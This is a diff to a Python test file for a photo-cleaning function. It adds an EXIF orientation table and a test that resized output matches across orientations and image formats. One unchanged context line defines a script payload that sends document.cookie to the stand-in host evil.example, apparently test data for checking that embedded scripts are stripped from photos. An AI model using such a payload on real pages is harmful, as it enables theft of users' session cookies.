@@ -6,6 +6,7 @@ from base64 import b64encode
 
 import pytest
 from PIL import Image, ImageCms
+from PIL.Image import Transpose
 from PIL.PngImagePlugin import PngInfo
 
 from skin.domain.photo import clean_photo
@@ -19,6 +20,7 @@ from tests.support.images import (
     png,
     quarters,
 )
+from tests.support.photo_memory import grain
 
 APP0, APPS_AND_COMMENT = 0xE0, {*range(0xE0, 0xF0), 0xFE}
 SCRIPT = b"<script>fetch('//evil.example/' + document.cookie)</script>"
@@ -85,6 +87,33 @@ def test_the_photo_is_upright(form, orientation, corners):
     seen = [picture.getpixel(at) for at in ((8, 8), (right, 8), (8, bottom), (right, bottom))]
     letters = [names.get(tuple(level > 128 for level in colour), "W") for colour in seen]
     assert "".join(letters) == corners.replace(" ", "")
+
+
+STORED = {  # how a camera turns an upright picture before it stores it under each orientation
+    1: None,
+    2: Transpose.FLIP_LEFT_RIGHT,
+    3: Transpose.ROTATE_180,
+    4: Transpose.FLIP_TOP_BOTTOM,
+    5: Transpose.TRANSPOSE,
+    6: Transpose.ROTATE_90,
+    7: Transpose.TRANSVERSE,
+    8: Transpose.ROTATE_270,
+}
+
+
+@pytest.mark.parametrize("mode", ["RGB", "RGBA", "L"])
+def test_a_picture_that_shrinks_has_the_same_pixels_by_every_orientation_and_format(mode):
+    upright = grain((2503, 2161)).convert(mode)
+    if mode == "RGBA":
+        upright.putalpha(upright.getchannel("G"))
+    as_taken = clean_photo(data=encoded(upright, compress_level=1))
+    for orientation, turn in STORED.items():
+        stored = upright if turn is None else upright.transpose(turn)
+        how = {"exif": exif(orientation=orientation)}
+        assert clean_photo(data=encoded(stored, compress_level=1, **how)) == as_taken
+    if mode != "L":  # WebP has no grey
+        lossless = encoded(stored, "WEBP", lossless=True, quality=0, method=0, exact=True, **how)
+        assert clean_photo(data=lossless) == as_taken
 
 
 @pytest.mark.parametrize("orientation", [0, 9, 65535])
